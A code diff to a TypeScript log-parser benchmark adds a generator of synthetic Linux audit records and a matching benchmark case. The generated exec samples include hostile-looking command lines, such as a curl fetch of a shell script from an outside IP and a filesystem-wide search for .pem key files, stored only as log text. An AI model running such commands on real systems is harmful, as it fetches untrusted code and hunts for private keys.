@@ -91,6 +91,41 @@ function rng(seed: number): () => number {
 }
 
 /** CEF lines shaped like a firewall/IDS feed: syslog prefix on some, escapes and spaces in values. */
+/**
+ * Linux audit records of the kinds one exec produces (SYSCALL, EXECVE with a
+ * hex-encoded argument, CWD, PATH, PROCTITLE) and PAM logins, in the shapes
+ * auditd writes; the corpus has only login records (fail2ban's selinux-ssh).
+ */
+export function generateAudit(count: number, seed = 11): string[] {
+  const rand = rng(seed);
+  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
+  const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex').toUpperCase();
+  const out: string[] = [];
+  let t = 1_700_000_000;
+  let serial = 1000;
+  while (out.length < count) {
+    t += rand() * 3;
+    const stamp = `msg=audit(${t.toFixed(3)}:${++serial}):`;
+    const pid = 1000 + Math.floor(rand() * 30000);
+    const [exe, args] = pick([
+      ['/usr/bin/curl', ['curl', '-s', 'http://198.51.100.23/x.sh']],
+      ['/usr/bin/id', ['id']],
+      ['/bin/bash', ['bash', '-c', 'echo hi > /tmp/x']],
+      ['/usr/bin/find', ['find', '/', '-name', '*.pem']],
+    ] as const);
+    if (rand() < 0.2) {
+      out.push(`type=USER_LOGIN ${stamp} pid=${pid} uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login acct="${pick(['root', 'admin', 'ubuntu'])}" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.${Math.floor(rand() * 250)} terminal=ssh res=${pick(['failed', 'success'])}'`);
+      continue;
+    }
+    out.push(`type=SYSCALL ${stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2a3b4c0 a1=55d1c2a3b5e0 a2=55d1c2a3b600 a3=8 items=2 ppid=1 pid=${pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="${args[0]}" exe="${exe}" key="exec"`);
+    out.push(`type=EXECVE ${stamp} argc=${args.length} ${args.map((a, i) => (/[\s"*>]/.test(a) ? `a${i}=${hex(a)}` : `a${i}="${a}"`)).join(' ')}`);
+    out.push(`type=CWD ${stamp} cwd="/home/ubuntu"`);
+    out.push(`type=PATH ${stamp} item=0 name="${exe}" inode=1835 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL`);
+    out.push(`type=PROCTITLE ${stamp} proctitle=${hex(args.join('\0'))}`);
+  }
+  return out.slice(0, count);
+}
+
 export function generateCef(count: number, seed = 7): string[] {
   const rand = rng(seed);
   const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)] as T;
@@ -188,17 +223,19 @@ const bench: Bench = {
     );
     const access = repeat(corpusLines('web/elastic-examples/apache_logs/apache_logs'), 300_000);
     const cef = generateCef(300_000);
+    const audit = generateAudit(300_000);
     const dnsAll = corpusLines('zeek/zed-sample-data/zeek-default/dns.log.gz');
     const dnsHeader = dnsAll.filter((l) => l.startsWith('#'));
     const dnsRows = dnsAll.filter((l) => !l.startsWith('#'));
     const zeek = [...dnsHeader, ...repeat(dnsRows, 300_000)];
-    log(`lines: auth ${auth.length}, access ${access.length}, cef ${cef.length}, zeek ${zeek.length}`);
+    log(`lines: auth ${auth.length}, access ${access.length}, cef ${cef.length}, audit ${audit.length}, zeek ${zeek.length}`);
 
     const rows: BenchRow[] = [];
     const cases: Case[] = [
       { capability: 'syslog / auth.log (EC2 auth.log, OpenSSH, /var/log/messages)', format: 'auth-log', lines: auth, sep: ' ', target: { rate: 900_000, text: '>= 900,000 lines/s (3x 300k)' } },
       { capability: 'Apache combined access log (elastic apache_logs)', format: 'web-access', lines: access, sep: ' ' },
       { capability: 'CEF with syslog prefix (generated)', format: 'cef', lines: cef, sep: ' ' },
+      { capability: 'Linux audit records (generated: SYSCALL, EXECVE, CWD, PATH, PROCTITLE, USER_LOGIN)', format: 'linux-audit', lines: audit, sep: ' ' },
       { capability: 'Zeek TSV dns.log rows (zed-sample-data)', format: 'zeek-tsv', lines: zeek, sep: '\t', target: { rate: 600_000, text: '>= 600,000 rows/s (3x 200k)' } },
     ];
     for (const c of cases) {
